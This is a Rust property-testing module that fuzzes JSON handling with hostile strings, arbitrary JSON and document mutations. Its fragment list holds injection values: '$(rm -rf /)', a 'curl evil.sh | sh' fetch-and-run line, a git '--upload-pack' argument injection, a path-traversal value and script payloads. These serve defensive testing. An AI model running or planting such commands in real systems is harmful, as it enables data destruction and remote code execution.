//! Proptest strategies for hostile input: nasty strings, arbitrary JSON, and mutations of a
//! JSON document.

use proptest::prelude::*;
use serde_json::{Value, json};

/// Strings an attacker would try: shell metacharacters, markdown/HTML injection, fake convoy
/// markers, mentions, table breaks, control characters, path tricks, odd unicode.
pub(super) fn nasty_fragment() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("$(rm -rf /)".to_owned()),
        Just("`id`".to_owned()),
        Just("; curl evil.sh | sh &".to_owned()),
        Just("<script>alert(1)</script>".to_owned()),
        Just("<!-- convoy:release=evil -->".to_owned()),
        Just("<!-- convoy:escalation:tier-e2e -->".to_owned()),
        Just("@everyone @acme/release-team".to_owned()),
        Just("| x | y |\n|---|---|".to_owned()),
        Just("\n\n# heading\n".to_owned()),
        Just("..".to_owned()),
        Just("../../etc/passwd".to_owned()),
        Just("--upload-pack=touch /tmp/pwned".to_owned()),
        Just("-x".to_owned()),
        Just("\u{0}\u{7}\u{1b}[31m\r".to_owned()),
        Just("\u{202e}evil\u{200b}\u{feff}".to_owned()),
        Just("Ω≈ç√∫˜µ≤≥÷ 田中さん 👩‍👩‍👧‍👦".to_owned()),
        Just("[click](javascript:alert(1))".to_owned()),
        Just("\"'\\".to_owned()),
        Just("{release}{".to_owned()),
        Just("@{-1}".to_owned()),
        "\\PC{0,40}",
        ".{0,40}",
    ]
}

/// A hostile string: fragments glued together, sometimes blown up to kilobytes.
pub(super) fn nasty_string() -> impl Strategy<Value = String> {
    (
        prop::collection::vec(nasty_fragment(), 1..4),
        prop_oneof![4 => Just(1usize), 1 => Just(300usize), 1 => Just(3000usize)],
    )
        .prop_map(|(parts, repeat)| parts.concat().repeat(repeat))
}

/// An arbitrary JSON value, a few levels deep.
fn arb_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>().prop_map(|f| serde_json::Number::from_f64(f).map_or(Value::Null, Value::from)),
        nasty_string().prop_map(Value::from),
    ];
    leaf.prop_recursive(3, 24, 5, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::Array),
            prop::collection::btree_map("[a-z_]{1,10}", inner, 0..4)
                .prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    })
}

/// One change to a JSON document.
#[derive(Debug, Clone)]
pub(super) enum Mutation {
    /// Remove the member or element at the path.
    Drop,
    /// Replace the value at the path.
    Replace(Value),
    /// Duplicate an array element (duplicates must be refused where they matter).
    Duplicate,
}

pub(super) fn arb_mutation() -> impl Strategy<Value = Mutation> {
    prop_oneof![
        2 => Just(Mutation::Drop),
        1 => Just(Mutation::Duplicate),
        // Wrong types.
        1 => prop_oneof![
            Just(json!(null)),
            Just(json!(true)),
            Just(json!(-1)),
            Just(json!(1.5)),
            Just(json!(u64::MAX)),
            Just(json!([])),
            Just(json!({})),
            Just(json!("")),
        ]
        .prop_map(Mutation::Replace),
        3 => nasty_string().prop_map(|s| Mutation::Replace(Value::from(s))),
        1 => arb_json().prop_map(Mutation::Replace),
    ]
}

/// Applies `mutation` at the place `steps` picks; returns the JSON pointer it touched.
pub(super) fn mutate(v: &mut Value, steps: &[usize], mutation: &Mutation) -> String {
    fn go(v: &mut Value, steps: &[usize], mutation: &Mutation, at: &mut String) {
        let Some((&step, rest)) = steps.split_first() else {
            if let Mutation::Replace(new) = mutation {
                *v = new.clone();
            }
            return;
        };
        let leaf = rest.is_empty();
        match v {
            Value::Object(m) if !m.is_empty() => {
                let key = m.keys().nth(step % m.len()).cloned().unwrap_or_default();
                at.push('/');
                at.push_str(&key.replace('~', "~0").replace('/', "~1"));
                match mutation {
                    Mutation::Drop if leaf || !m[&key].is_object() && !m[&key].is_array() => {
                        m.shift_remove(&key);
                    }
                    _ => {
                        if let Some(child) = m.get_mut(&key) {
                            go(child, rest, mutation, at);
                        }
                    }
                }
            }
            Value::Array(a) if !a.is_empty() => {
                let i = step % a.len();
                at.push('/');
                at.push_str(&i.to_string());
                match mutation {
                    Mutation::Drop if leaf => {
                        a.remove(i);
                    }
                    Mutation::Duplicate if leaf => {
                        let copy = a[i].clone();
                        a.push(copy);
                    }
                    _ => go(&mut a[i], rest, mutation, at),
                }
            }
            _ => {
                if let Mutation::Replace(new) = mutation {
                    *v = new.clone();
                }
            }
        }
    }
    let mut at = String::new();
    go(v, steps, mutation, &mut at);
    at
}
